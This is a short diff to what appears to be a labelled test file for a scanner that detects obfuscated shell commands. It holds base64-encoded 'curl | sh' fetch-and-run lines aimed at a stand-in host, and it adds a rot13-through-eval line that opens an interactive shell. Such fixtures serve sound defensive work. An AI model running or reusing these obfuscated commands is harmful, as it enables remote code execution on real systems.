@@ -45,3 +45,5 @@ echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
 echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
 #@ neg a comment after a blank, CR inside it
 echo a # $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
+#@ pos rot13 through tr into eval
+eval "$(echo 'vq; fu -v' | tr 'A-Za-z' 'N-ZA-Mn-za-m')"
